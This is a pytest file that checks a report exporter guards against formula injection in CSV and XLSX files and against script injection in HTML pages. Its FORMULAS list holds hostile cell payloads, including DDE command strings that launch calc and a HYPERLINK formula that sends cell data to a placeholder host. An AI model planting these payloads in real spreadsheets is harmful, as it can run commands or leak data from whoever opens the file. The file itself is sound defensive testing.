"""The files of a report: hostile cells go there and back as text, numbers stay numbers, pages stand alone."""

from __future__ import annotations

import csv
import os
import shutil
import subprocess
from collections.abc import Callable
from io import BytesIO, StringIO
from pathlib import Path
from xml.etree import ElementTree as ET
from zipfile import ZipFile

import pytest

from app.reports import example
from app.reports.chart import chart
from app.reports.csv_file import COLUMNS, csv_of
from app.reports.files import write
from app.reports.no_formulas import LEADS, guarded, plain_again
from app.reports.page import page_of
from app.reports.tables import Cell, Edition, Report, Row, Table
from app.reports.xlsx_file import MAIN, workbook, xlsx_of

FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.invalid/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "=1\r\n+1",
    "＝1+1",
    "'=1+1",
    "''-1",
    " =1+1",
    '=";"',
    "=1,2;3\t4",
    "-",
    "=",
    "+46 70 000 00 00",
    "@handle",
)
CELL = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}table-cell"
HOSTILE = [f"{lead}{text}" for lead in ("", *LEADS[:6], "'", " ", '"') for text in FORMULAS]


def report(labels: list[str]) -> Report:
    rows = tuple(
        Row("W", label, (Cell(15), Cell(None), Cell(20, percent=True))) for label in labels
    )
    table = Table("t", "A <table> & more", "What & why", "somewhere", ("one", "two", "%"), rows)
    return Report("r", "A report", "2026", Edition.OUTSIDE, "Note", (table,))


def texts(content: bytes) -> list[str]:
    """Every text of every sheet of a workbook, read without our own code."""
    found = []
    with ZipFile(BytesIO(content)) as archive:
        for name in sorted(n for n in archive.namelist() if n.startswith("xl/worksheets/")):
            tree = ET.fromstring(archive.read(name))  # noqa: S314 - our own file
            assert not list(tree.iter(f"{{{MAIN}}}f")), "a formula"
            found += [t.text or "" for t in tree.iter(f"{{{MAIN}}}t")]
    return found


def test_two_hundred_hostile_cells_are_text_in_csv_and_come_back() -> None:
    assert len(HOSTILE) >= 200
    said = csv_of(report(HOSTILE)).decode()
    lines = list(csv.DictReader(StringIO(said, newline="")))
    labels = [line["row"] for line in lines][:: len(("one", "two", "%"))]
    assert not [cell for line in lines for cell in line.values() if cell.startswith(LEADS)]
    assert [plain_again(label) for label in labels] == HOSTILE


def test_every_cell_of_a_csv_is_quoted() -> None:
    said = csv_of(report(["plain"])).decode()
    for line in said.strip().split("\r\n"):
        assert (
            line.startswith('"') and line.endswith('"') and len(line.split('","')) == len(COLUMNS)
        )


def test_two_hundred_hostile_cells_are_text_in_a_workbook_and_come_back() -> None:
    found = texts(workbook([("S", [[text] for text in HOSTILE])]))
    assert not [cell for cell in found if cell.startswith(LEADS)]
    assert [plain_again(cell) for cell in found] == HOSTILE


@pytest.mark.parametrize("text", ["", "Oslo", "O'Brien", "'quoted'", "1 = 1", "ÆØÅ"])
def test_what_is_no_formula_is_left_as_it_is(text: str) -> None:
    assert guarded(text) == text == plain_again(text)


def test_a_workbook_keeps_numbers_as_numbers_and_names_what_is_hidden() -> None:
    with ZipFile(BytesIO(xlsx_of(report(["plain"])))) as archive:
        sheet = ET.fromstring(archive.read("xl/worksheets/sheet2.xml"))  # noqa: S314 - our own file
    assert [v.text for v in sheet.iter(f"{{{MAIN}}}v")] == ["15", "20"]
    assert "hidden" in [t.text for t in sheet.iter(f"{{{MAIN}}}t")]


@pytest.fixture(scope="module")
def spreadsheet(tmp_path_factory: pytest.TempPathFactory) -> Callable[[Path], str]:
    """What LibreOffice makes of a file, as text; its profile is the tests' own."""
    program = shutil.which("soffice")
    if program is None:
        assert not os.environ.get("CI"), "CI has LibreOffice"
        pytest.skip("no LibreOffice here")
    profile = tmp_path_factory.mktemp("profile")

    def opened(path: Path) -> str:
        done = subprocess.run(
            [
                program,
                f"-env:UserInstallation={profile.as_uri()}",
                "--headless",
                *("--convert-to", "fods", "--outdir", str(path.parent / "opened"), str(path)),
            ],
            capture_output=True,
            text=True,
            timeout=120,
            check=False,
        )
        assert done.returncode == 0, done.stderr
        return (path.parent / "opened" / f"{path.stem}.fods").read_text(encoding="utf-8")

    return opened


@pytest.mark.parametrize("kind", [".xlsx", ".csv"])
def test_libreoffice_computes_no_formula(
    kind: str, spreadsheet: Callable[[Path], str], tmp_path: Path
) -> None:
    found = [path for path in write(report(HOSTILE), tmp_path) if path.suffix == kind]
    assert found
    seen = [spreadsheet(path) for path in found]
    assert not any("table:formula" in one for one in seen)
    cells = [cell for one in seen for cell in ET.fromstring(one).iter(CELL)]  # noqa: S314 - our own file
    assert sum("calc'!A0" in "".join(cell.itertext()) for cell in cells) >= 20, (
        "it is there, as text"
    )


def test_libreoffice_computes_a_formula_that_is_not_guarded(
    spreadsheet: Callable[[Path], str], tmp_path: Path
) -> None:
    path = tmp_path / "open.csv"
    path.write_text('"=1+1"\n', encoding="utf-8")  # quoted, as each of our cells is
    assert "table:formula" in spreadsheet(path)


def test_a_page_stands_alone_and_its_charts_have_a_twin() -> None:
    for one in example.reports(2025):
        page = page_of(one).decode()
        for word in ("<script", "javascript:", "http://", "https://", "src=", "href=", "@import"):
            assert word not in page.replace("http://www.w3.org/2000/svg", "")
        for table in one.tables:
            drawn = chart(table)
            if not drawn:
                continue
            svg = ET.fromstring(drawn)  # noqa: S314 - our own file
            assert svg.get("role") == "img"
            names = (svg.get("aria-labelledby") or "").split()
            ids = {e.get("id"): e.text for e in svg.iter() if e.get("id")}
            assert all(ids[name] for name in names) and len(names) == 2
            shown = {t.text for t in svg.iter() if t.tag.endswith("}text")}
            told = {
                str(c.number) for r in table.rows for c in r.cells if c.number and not c.percent
            }
            assert told <= shown and table.definition in page.replace("&amp;", "&")


def test_what_is_written_in_a_cell_does_not_end_it_on_a_page() -> None:
    page = page_of(report(["</td><script>x</script>"])).decode()
    assert "<script>" not in page
    assert "A &lt;table&gt; &amp; more" in page
